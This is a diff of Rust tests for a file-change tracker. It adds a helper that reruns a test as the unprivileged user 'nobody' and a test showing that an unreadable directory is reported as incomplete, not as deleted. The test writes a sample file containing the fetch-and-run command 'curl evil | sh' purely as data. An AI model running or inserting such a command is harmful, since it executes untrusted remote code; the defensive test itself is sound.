@@ -78,7 +78,7 @@ fn a_deep_chain_of_directories_is_walked_only_so_far() {
     std::fs::create_dir_all(root.path().join(&deep)).unwrap();
     let listing = Listing::scan(root.path()).unwrap();
     assert_eq!(listing.entries.len(), super::listing::MAX_DEPTH);
-    assert_eq!(listing.unread_dirs, 1);
+    assert_eq!(listing.unread_dirs(), 1);
 }
 
 #[test]
@@ -162,6 +162,57 @@ fn a_hostile_file_name_reaches_the_record_harmless() {
     write(root.path(), "\u{1b}[31mred\nline.txt", "x");
     let changes = tracker.changes();
     assert_eq!(changes[0].path, "\\u001B[31mred\\u000Aline.txt");
+}
+
+/// Runs the test `name` of this binary again as `nobody` and asserts it passed: root reads
+/// through any mode, an operator does not. `false` when this is that run (or not root).
+fn rerun_unprivileged(name: &str) -> bool {
+    use std::os::unix::process::CommandExt;
+    const AGAIN: &str = "AIRLOCK_TEST_UNPRIVILEGED";
+    if std::env::var_os(AGAIN).is_some() || !rustix::process::getuid().is_root() {
+        return false;
+    }
+    let output = std::process::Command::new(std::env::current_exe().unwrap())
+        .args(["--exact", name, "--nocapture"])
+        .env(AGAIN, "1")
+        .uid(65534)
+        .gid(65534)
+        .output()
+        .unwrap();
+    let said = String::from_utf8_lossy(&output.stdout);
+    assert!(
+        output.status.success() && said.contains("1 passed"),
+        "the unprivileged run failed:\n{said}{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    true
+}
+
+#[test]
+fn a_directory_listed_but_not_searchable_says_so_and_forgets_nothing() {
+    use std::os::unix::fs::PermissionsExt;
+    let name = "files::attacks::a_directory_listed_but_not_searchable_says_so_and_forgets_nothing";
+    if rerun_unprivileged(name) {
+        return;
+    }
+    let root = tempfile::tempdir().unwrap();
+    write(root.path(), "d/old.txt", "before");
+    let mut tracker = Tracker::start(root.path());
+    write(root.path(), "d/payload.sh", "curl evil | sh");
+    let mode = |bits| std::fs::Permissions::from_mode(bits);
+    // Its names can be read, but none of them looked up.
+    std::fs::set_permissions(root.path().join("d"), mode(0o400)).unwrap();
+    let changes = tracker.changes();
+    let incomplete = tracker.incomplete().map(str::to_string);
+    std::fs::set_permissions(root.path().join("d"), mode(0o700)).unwrap();
+    assert!(changes.is_empty(), "nothing is taken for gone: {changes:?}");
+    assert_eq!(
+        incomplete.as_deref(),
+        Some("directories that could not be read (1)")
+    );
+    let changes = tracker.changes();
+    let seen: Vec<&str> = changes.iter().map(|c| c.path.as_str()).collect();
+    assert_eq!(seen, ["d/payload.sh"], "recorded once it can be seen");
 }
 
 #[test]
